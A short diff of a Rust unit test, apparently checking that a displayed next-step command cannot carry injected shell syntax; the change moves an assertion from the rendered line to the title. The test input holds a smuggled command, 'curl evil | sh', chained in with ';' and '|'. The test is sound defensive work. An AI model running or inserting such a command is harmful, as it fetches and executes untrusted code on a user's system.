@@ -636,5 +636,5 @@ fn only_a_command_that_an_audit_gives_is_shown_as_the_next_one() {
         "a title alone is no step"
     );
     let titled = next("Run x; curl evil | sh #", "sudo dnf install kernel-rt", "smt").unwrap();
-    assert!(!titled.line().contains([';', '|', '#']), "{}", titled.line());
+    assert!(!titled.title.contains([';', '|', '#']), "{}", titled.title);
 }
